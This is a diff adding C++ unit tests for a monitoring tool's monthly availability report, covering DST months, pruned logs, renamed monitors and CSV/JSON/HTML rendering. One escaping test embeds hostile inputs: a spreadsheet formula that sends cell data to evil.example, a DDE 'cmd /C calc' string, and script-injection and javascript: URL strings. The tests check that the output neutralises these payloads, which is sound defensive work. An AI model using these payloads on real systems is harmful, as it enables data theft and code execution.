@@ -65,6 +65,25 @@ calendars:
       - {date: 2026-11-03, name: closed}
 )";
 
+/// The input of a report of November 2026 in Tokyo (kMonth), with @p instances, generated after
+/// @p now_ms.
+report::Input November(std::vector<report::InstanceInfo> instances, int64_t now_ms = kMonthEnd) {
+  report::Input in;
+  in.month = "2026-11";
+  in.span = {kMonth, kMonthEnd};
+  in.now_ms = now_ms;
+  in.instances = std::move(instances);
+  return in;
+}
+
+/// A monitor without a node, named @p key, graphing @p labels.
+report::InstanceInfo Monitor(const std::string& key, std::vector<std::string> labels = {}) {
+  report::InstanceInfo i;
+  i.key = i.monitor = key;
+  i.labels = std::move(labels);
+  return i;
+}
+
 }  // namespace
 
 TEST_CASE("report: availability, incidents, MTTR, percentiles and notifications of a generated month") {
@@ -171,7 +190,7 @@ TEST_CASE("report: availability, incidents, MTTR, percentiles and notifications 
       i.thresholds = {{"time", {50.0, 90.0}}};
       in.instances.push_back(i);
     }
-    const report::Report r = report::Build(*store, in);
+    const report::Report r = report::Build(store.get(), in);
 
     // Expected state times, minute by minute.
     std::map<std::string, std::map<std::string, int64_t>> all, business;
@@ -318,13 +337,13 @@ TEST_CASE("report: labels follow the report key, and pruned raw samples leave th
       for (const auto& s : r.series) out.push_back(s.key + ":" + s.label);
       return out;
     };
-    CHECK(labels(report::Build(*store, in)) == std::vector<std::string>{"app:queue", "cpu/n1:busy_pct"});
+    CHECK(labels(report::Build(store.get(), in)) == std::vector<std::string>{"app:queue", "cpu/n1:busy_pct"});
     in.instances[0].labels = {"*"};
     in.instances[1].no_graphs = true;
-    CHECK(labels(report::Build(*store, in)) == std::vector<std::string>{"app:queue", "app:time"});
+    CHECK(labels(report::Build(store.get(), in)) == std::vector<std::string>{"app:queue", "app:time"});
     // Raw samples gone: min, average and maximum from the hourly roll-ups, no percentile.
     store->PrunePerfSamples(kMonthEnd);
-    const report::Report r = report::Build(*store, in);
+    const report::Report r = report::Build(store.get(), in);
     REQUIRE(r.series.size() == 2);
     CHECK(r.series[0].count == 2 * 24 * 6);
     CHECK(r.series[0].min == 0);
@@ -339,4 +358,271 @@ TEST_CASE("report: a month is read in the report's zone, and only as YYYY-MM") {
   CHECK(report::MonthSpan("2026-12", nullptr)->second == 1'798'761'600'000);  // 2027-01-01Z
   for (const char* bad : {"2026-13", "2026-00", "2026-1", "202611", "november", "2026-11-01", "1999-12", ""})
     CHECK_FALSE(report::MonthSpan(bad, nullptr));
+}
+
+TEST_CASE("report: a check with no change before the month was monitored: OK since its first run, or the log pruned") {
+  const std::string dir = testing::MakeTempDir("hops-report");
+  {
+    auto store = StateStore::Open(dir + "/state.db");
+    auto status = [&](const std::string& key, const std::string& state, int64_t changed) {
+      MonitorStatus s;
+      s.key = key;
+      s.state = s.hard_state = state;
+      s.last_summary = key + " summary";
+      s.last_change_ms = changed;
+      s.last_check_ms = kMonthEnd + 10 * kDay;
+      store->PutMonitorStatuses({s});
+    };
+    // A run logs no change for a first result that is OK: "steady" (first run before the month)
+    // and "new" (first run on day 10) have only their status. "pruned" lost its changes before
+    // the month and was critical for an hour on day 10; "later" was warning until 4 days after
+    // the month; "born" first ran after it; "never" never ran.
+    status("steady", "ok", kMonth - 5 * kDay);
+    status("new", "ok", kMonth + 10 * kDay);
+    status("pruned", "ok", kMonth + 10 * kDay + kHour);
+    status("later", "ok", kMonthEnd + 4 * kDay);
+    status("born", "critical", kMonthEnd + kDay);
+    store->AppendStatusChanges({{"pruned", kMonth + 10 * kDay, "ok", "critical", "down"},
+                                {"pruned", kMonth + 10 * kDay + kHour, "critical", "ok", "up"},
+                                {"later", kMonthEnd + 4 * kDay, "warning", "ok", "fixed"},
+                                {"born", kMonthEnd + kDay, "", "critical", "first"}});
+    report::Input in = November({}, kMonthEnd + 10 * kDay);
+    for (const char* key : {"steady", "new", "pruned", "later", "born", "never"}) in.instances.push_back(Monitor(key));
+    auto times = [](const report::Report& r) {
+      std::map<std::string, report::StateTimes> out;
+      for (const auto& a : r.instances) {
+        out[a.key] = a.all;
+        CHECK(a.all.Monitored() + a.all.no_data == kMonthEnd - kMonth);
+      }
+      return out;
+    };
+    report::Report r = report::Build(store.get(), in);
+    auto t = times(r);
+    CHECK(t["steady"].ok == 30 * kDay);
+    CHECK(t["new"].ok == 20 * kDay);
+    CHECK(t["new"].no_data == 10 * kDay);
+    CHECK(t["pruned"].ok == 30 * kDay - kHour);
+    CHECK(t["pruned"].critical == kHour);
+    CHECK(t["later"].warning == 30 * kDay);
+    CHECK(t["born"].no_data == 30 * kDay);
+    CHECK(t["never"].no_data == 30 * kDay);
+    REQUIRE(r.incidents.size() == 2);
+    CHECK(r.incidents[0].key == "later");  // open since (at least) the month's start
+    CHECK(r.incidents[0].start_ms == kMonth);
+    CHECK(r.incidents[1].key == "pruned");
+    CHECK(r.incidents[1].duration_ms == kHour);
+    // The month still running: known time ends now.
+    in.now_ms = kMonth + 15 * kDay;
+    t = times(report::Build(store.get(), in));
+    CHECK(t["steady"].ok == 15 * kDay);
+    CHECK(t["new"].ok == 5 * kDay);
+    CHECK(t["pruned"].critical == kHour);
+    // A month before every check: nothing known.
+    in.span = {kMonth - 30 * kDay, kMonth};
+    in.now_ms = kMonthEnd + 10 * kDay;
+    t = times(report::Build(store.get(), in));
+    CHECK(t["steady"].ok == 5 * kDay);
+    CHECK(t["new"].ok == 0);
+    // No store at all (nothing ever ran): every check without data, nothing read or written.
+    const report::Report none = report::Build(nullptr, in);
+    CHECK(none.instances.size() == 6);
+    CHECK(none.total.all.no_data == 6 * 30 * kDay);
+    CHECK(none.series.empty());
+  }
+  std::filesystem::remove_all(dir);
+}
+
+TEST_CASE("report: a month with a DST change lasts its real length, and February its 28 days") {
+  const TimeZone* ny = FindZone("America/New_York");
+  const auto nov = report::MonthSpan("2026-11", ny);
+  REQUIRE(nov);
+  CHECK(nov->second - nov->first == 30 * kDay + kHour);  // 1 November: 02:00 EDT -> 01:00 EST
+  const auto mar = report::MonthSpan("2026-03", ny);
+  CHECK(mar->second - mar->first == 31 * kDay - kHour);
+  const auto feb = report::MonthSpan("2026-02", nullptr);
+  CHECK(feb->second - feb->first == 28 * kDay);
+  const std::string dir = testing::MakeTempDir("hops-report");
+  {
+    auto store = StateStore::Open(dir + "/state.db");
+    store->AppendStatusChanges({{"web", nov->first - kDay, "", "critical", "down"},
+                                {"web", nov->first + 2 * kDay, "critical", "ok", "up"}});
+    report::Input in = November({Monitor("web")}, nov->second + kDay);
+    in.span = *nov;
+    in.zone = ny;
+    const report::Report r = report::Build(store.get(), in);
+    CHECK(r.total.all.Monitored() == 30 * kDay + kHour);
+    CHECK(r.total.all.critical == 2 * kDay);
+    const auto j = nlohmann::json::parse(report::RenderJson(r));
+    CHECK(j["from"] == "2026-11-01T00:00:00-04:00");
+    CHECK(j["until"] == "2026-12-01T00:00:00-05:00");
+  }
+  std::filesystem::remove_all(dir);
+}
+
+namespace {
+
+/// The rows of @p csv (RFC 4180: quoted fields may hold commas, quotes and line breaks).
+std::vector<std::vector<std::string>> ParseCsv(const std::string& csv) {
+  std::vector<std::vector<std::string>> rows(1, std::vector<std::string>(1));
+  bool quoted = false;
+  for (size_t i = 0; i < csv.size(); ++i) {
+    const char c = csv[i];
+    if (quoted) {
+      if (c == '"' && i + 1 < csv.size() && csv[i + 1] == '"') rows.back().back() += '"', ++i;
+      else if (c == '"') quoted = false;
+      else rows.back().back() += c;
+    } else if (c == '"') {
+      quoted = true;
+    } else if (c == ',') {
+      rows.back().emplace_back();
+    } else if (c == '\n') {
+      rows.emplace_back(1);
+    } else {
+      rows.back().back() += c;
+    }
+  }
+  if (rows.back().size() == 1 && rows.back()[0].empty()) rows.pop_back();
+  return rows;
+}
+
+}  // namespace
+
+TEST_CASE("report: hostile ids, summaries and runbooks stay data in CSV, JSON and HTML") {
+  const std::string dir = testing::MakeTempDir("hops-report");
+  {
+    auto store = StateStore::Open(dir + "/state.db");
+    const std::string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    const std::string long_summary = "line1\nline2, \"quoted\" " + std::string(10 * 1024, 'x') + " \xff\xfe end";
+    const std::string key = "web,\"x\"/-n1";
+    store->AppendStatusChanges({{key, kMonth + kDay, "", "critical", formula},
+                                {key, kMonth + 2 * kDay, "critical", "ok", "up"},
+                                {"db", kMonth + kDay, "", "warning", long_summary},
+                                {"db", kMonth + 2 * kDay, "warning", "ok", "up"},
+                                {"app", kMonth + kDay, "", "unknown", "@SUM(1+1)*cmd|' /C calc'!A0"}});
+    report::InstanceInfo web;
+    web.key = key;
+    web.monitor = "web,\"x\"";
+    web.node = "-n1";
+    web.runbook = "+1 call </style><script>alert(1)</script>";
+    report::InstanceInfo db = Monitor("db");
+    db.runbook = "javascript:alert(1)";
+    const report::Report r = report::Build(store.get(), November({web, db, Monitor("app")}));
+    REQUIRE(r.incidents.size() == 3);
+
+    const auto rows = ParseCsv(report::RenderCsv(r));
+    const size_t width = rows.front().size();
+    std::vector<std::vector<std::string>> incidents;
+    for (const auto& row : rows) {
+      CHECK(row.size() == width);  // no field broke out of its row
+      if (row[0] == "incident") incidents.push_back(row);
+    }
+    REQUIRE(incidents.size() == 3);
+    std::map<std::string, std::vector<std::string>> by_monitor;
+    for (const auto& row : incidents) by_monitor[row[2]] = row;
+    // A field a spreadsheet would run as a formula opens as text: a leading apostrophe.
+    CHECK(by_monitor.at("web,\"x\"")[25] == "'" + formula);
+    CHECK(by_monitor.at("web,\"x\"")[3] == "'-n1");
+    CHECK(by_monitor.at("web,\"x\"")[26] == "'+1 call </style><script>alert(1)</script>");
+    CHECK(by_monitor.at("app")[25].rfind("'@SUM", 0) == 0);
+    // The long summary comes back whole, its invalid bytes as U+FFFD.
+    CHECK(by_monitor.at("db")[25].size() > 10 * 1024);
+    CHECK(by_monitor.at("db")[25].rfind("line1\nline2, \"quoted\" ", 0) == 0);
+    CHECK(by_monitor.at("db")[25].find("\xEF\xBF\xBD\xEF\xBF\xBD end") != std::string::npos);
+
+    const auto j = nlohmann::json::parse(report::RenderJson(r));  // valid JSON despite the bytes
+    CHECK(j["incidents"].size() == 3);
+
+    const std::string html = report::RenderHtml(r, "en");
+    CHECK(html.find("<script") == std::string::npos);
+    CHECK(html.find("</style><") == std::string::npos);
+    CHECK(html.find("href=\"javascript") == std::string::npos);
+    CHECK(html.find("\xff") == std::string::npos);
+  }
+  std::filesystem::remove_all(dir);
+}
+
+TEST_CASE("report: a month that has not begun knows nothing: no data, no incident") {
+  const std::string dir = testing::MakeTempDir("hops-report");
+  {
+    auto store = StateStore::Open(dir + "/state.db");
+    store->AppendStatusChanges({{"web", kMonth + kDay, "", "critical", "down since the 2nd"}});
+    report::Input in = November({Monitor("web")}, kMonth + 5 * kDay);
+    in.month = "2026-12";
+    in.span = {kMonthEnd, kMonthEnd + 31 * kDay};
+    report::Report r = report::Build(store.get(), in);
+    CHECK(r.total.all.no_data == 31 * kDay);
+    CHECK(r.incidents.empty());
+    // The month running: the incident open since before it shows, up to now.
+    in.now_ms = kMonthEnd + kDay;
+    r = report::Build(store.get(), in);
+    REQUIRE(r.incidents.size() == 1);
+    CHECK(r.incidents[0].duration_ms == (kMonthEnd + kDay) - (kMonth + kDay));  // from its start to now
+    CHECK(r.total.all.critical == kDay);
+  }
+  std::filesystem::remove_all(dir);
+}
+
+TEST_CASE("report: a monitor renamed or removed mid-month is known until its last check, not to the month's end") {
+  const std::string dir = testing::MakeTempDir("hops-report");
+  {
+    auto store = StateStore::Open(dir + "/state.db");
+    auto status = [&](const std::string& key, const std::string& state, int64_t changed, int64_t checked) {
+      MonitorStatus s;
+      s.key = key;
+      s.state = s.hard_state = state;
+      s.last_change_ms = changed;
+      s.last_check_ms = checked;
+      store->PutMonitorStatuses({s});
+    };
+    // "web" became "www" on day 15 (the last check of web, the first of www: OK, so no change
+    // logged); "db" was removed on day 20 while critical; "old" was removed last month.
+    store->AppendStatusChanges({{"web", kMonth - kDay, "", "ok", "first"},
+                                {"db", kMonth - kDay, "", "ok", "first"},
+                                {"db", kMonth + 19 * kDay, "ok", "critical", "down"},
+                                {"old", kMonth - 10 * kDay, "", "warning", "first"}});
+    status("web", "ok", kMonth - kDay, kMonth + 15 * kDay);
+    status("www", "ok", kMonth + 15 * kDay, kMonthEnd + kDay);
+    status("db", "critical", kMonth + 19 * kDay, kMonth + 20 * kDay);
+    status("old", "warning", kMonth - 10 * kDay, kMonth - 5 * kDay);
+    report::Input in = November({Monitor("www")}, kMonthEnd + 2 * kDay);
+    in.include_unlisted = true;
+    const report::Report r = report::Build(store.get(), in);
+    std::map<std::string, report::StateTimes> t;
+    for (const auto& a : r.instances) t[a.key] = a.all;
+    CHECK(t.size() == 3);  // not "old"
+    CHECK(t["web"].ok == 15 * kDay);
+    CHECK(t["web"].no_data == 15 * kDay);
+    CHECK(t["www"].ok == 15 * kDay);
+    CHECK(t["db"].ok == 19 * kDay);
+    CHECK(t["db"].critical == kDay);
+    CHECK(t["db"].no_data == 10 * kDay);
+    REQUIRE(r.incidents.size() == 1);
+    CHECK(r.incidents[0].duration_ms == kDay);
+  }
+  std::filesystem::remove_all(dir);
+}
+
+TEST_CASE("report: graphs of values near the ends of double's range stay drawable") {
+  const std::string dir = testing::MakeTempDir("hops-report");
+  {
+    auto store = StateStore::Open(dir + "/state.db");
+    std::vector<PerfSample> samples;
+    for (int64_t t = kMonth; t < kMonth + kDay; t += kHour) {
+      samples.push_back({"app", "flat", t, -1e308, ""});
+      samples.push_back({"app", "huge", t, t % (2 * kHour) ? 1e308 : -1e308, ""});
+      samples.push_back({"app", "big", t, -1e17, ""});
+    }
+    store->AppendPerfSamples(samples);
+    const report::Report r = report::Build(store.get(), November({Monitor("app", {"*"})}));
+    REQUIRE(r.series.size() == 3);
+    const std::string html = report::RenderHtml(r, "en");
+    // Every coordinate of the graphs is a small number: no NaN, no overflowed integer.
+    for (const char* bad : {"nan", "inf", "-9223372036854775808", "000000000000000000"})
+      CHECK_MESSAGE(html.find(bad) == std::string::npos, bad);
+    CHECK(html.find("-1e+308") != std::string::npos);  // the caption's minimum
+    size_t bands = 0;
+    for (size_t p = html.find("class=\"band\""); p != std::string::npos; p = html.find("class=\"band\"", p + 1)) ++bands;
+    CHECK(bands == 3);
+  }
+  std::filesystem::remove_all(dir);
 }
